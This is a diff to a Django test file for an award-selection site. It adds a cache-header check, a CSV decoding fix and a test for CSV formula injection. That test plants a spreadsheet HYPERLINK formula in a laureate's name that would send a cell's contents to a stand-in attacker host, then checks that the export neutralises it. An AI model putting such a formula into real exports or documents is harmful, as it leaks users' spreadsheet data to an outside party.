@@ -1,5 +1,7 @@
 """The selection's pages as each role uses them, the report by its text, the public page."""
 
+import csv
+import io
 import json
 import subprocess
 from datetime import timedelta
@@ -236,6 +238,7 @@ def test_the_chair_locks_and_the_report_tells_the_whole_decision(
 
     assert Decision.objects.get().state == "locked"
     assert report["Content-Type"] == "application/pdf"
+    assert "no-store" in report["Cache-Control"] and "private" in report["Cache-Control"]
     text = " ".join(pdf_text(report.content, tmp_path).split())
     assert "Decision report" in text
     assert "Decision locked by the chair" in text
@@ -334,7 +337,8 @@ def test_the_laureates_page_in_both_languages(client, announced, language):
 def test_the_laureates_as_open_data(client, announced):
     names = sorted(p.candidate.name for p in queries.places(announced)["laureate"])
 
-    as_csv = client.get(reverse("selection:laureates_csv")).content.decode().splitlines()
+    as_csv = client.get(reverse("selection:laureates_csv")).content.decode("utf-8-sig")
+    as_csv = as_csv.splitlines()
     as_json = json.loads(client.get(reverse("selection:laureates_json")).content)
 
     assert as_csv[0] == (
@@ -343,6 +347,18 @@ def test_the_laureates_as_open_data(client, announced):
     assert len(as_csv) == 4
     assert sorted(row["name"] for row in as_json["laureates"]) == names
     assert as_json["laureates"][0]["citation_sv"].startswith("Hyllning till")
+
+
+def test_the_public_laureates_csv_makes_a_formula_text(client, announced):
+    place = announced.places.filter(role="laureate").select_related("candidate").first()
+    place.candidate.name = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
+    place.candidate.save(update_fields=["name"])
+
+    body = client.get(reverse("selection:laureates_csv")).content.decode("utf-8-sig")
+
+    names = [row[0] for row in csv.reader(io.StringIO(body))][1:]
+    assert "'" + place.candidate.name in names
+    assert not any(name.startswith("=") for name in names)
 
 
 def test_nothing_is_public_before_the_announcement(client, locked):
